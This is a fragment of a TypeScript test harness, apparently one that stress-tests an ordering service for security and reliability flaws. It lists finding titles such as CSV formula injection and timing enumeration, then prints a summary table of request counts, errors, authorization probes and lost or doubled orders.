  ["3", "sign-in lock-out by a stranger"],
  ["4", "invoice CSV formula injection"],
  ["5", "database restart"],
  ["6", "secrets and personal data logged or kept"],
  ["7", "PIN-reset code guesses"],
  ["8", "operator enumeration by timing"],
  ["9", "slow bodies"],
  ["10", "registration pre-fills a stranger's account"],
  ["11", "mail to anyone, no sending budget"],
  ["12", "bidi, zero-width, line breaks in names"],
  ["13", "once-per-customer coupon after deletion"],
  ["14", "dependencies outside their engines"],
  ["15", "weak production settings, docs, token in logs, listen address, auth order, OpenAPI"],
  ["leaks", "authorization probes"],
];

function printReport(options: {
  money: Awaited<ReturnType<typeof moneyFigures>>;
  globals: { probes: number; leaks: string[] };
  product: Product;
  runStartedAt: number;
}) {
  const { money, globals } = options;
  console.info("\n| Finding | Figure |\n|---|---|");
  for (const [finding, title] of FINDING_TITLES) {
    const figure = (report.get(finding) ?? "not measured").replaceAll("|", "/");
    console.info(`| ${finding}. ${title} | ${figure} |`);
  }
  console.info("\n| Global | Figure |\n|---|---|");
  console.info(`| requests | ${tally.requests} (and ${COUNTS.trickles} trickling bodies) |`);
  console.info(
    `| 5xx outside injected faults | ${tally.fiveXx}${tally.samples.length ? ` (${tally.samples.join("; ")})` : ""}; no answer: ${tally.noAnswer} |`,
  );
  console.info(
    `| 5xx / no answer during injected faults | ${tally.fiveXxDuringFault} / ${tally.noAnswerDuringFault} |`,
  );
  console.info(`| authorization probes / leaks | ${globals.probes} / ${globals.leaks.length} |`);
  console.info(
    `| orders placed / paid / delivered | ${money.placed} / ${money.paid} / ${money.delivered} (${Object.entries(
      money.byStatus,
    )
      .map(([status, count]) => `${status} ${count}`)
      .join(", ")}) |`,
  );
  console.info(
    `| upstream orders (simulator) | ${money.upstreamOrders} for ${money.ordersUpstream} orders, ${money.delivered} deliveries |`,
  );
  console.info(
    `| lost (paid, not delivered after ${DELIVERY_WAIT_MS / 1000} s) / doubled | ${money.lost}${money.lostToFault ? ` (${money.lostToFault} of them paid just before the database stop)` : ""} / ${money.doubled} |`,
  );
  console.info(
    `| the product | ${options.product.isRunning() ? "running at the end" : "EXITED during the run"}; run ${((Date.now() - options.runStartedAt) / 1000).toFixed(0)} s |`,
  );
  for (const note of notes) console.info(note);
}

await main().catch((error: unknown) => {
  console.error(error);
});
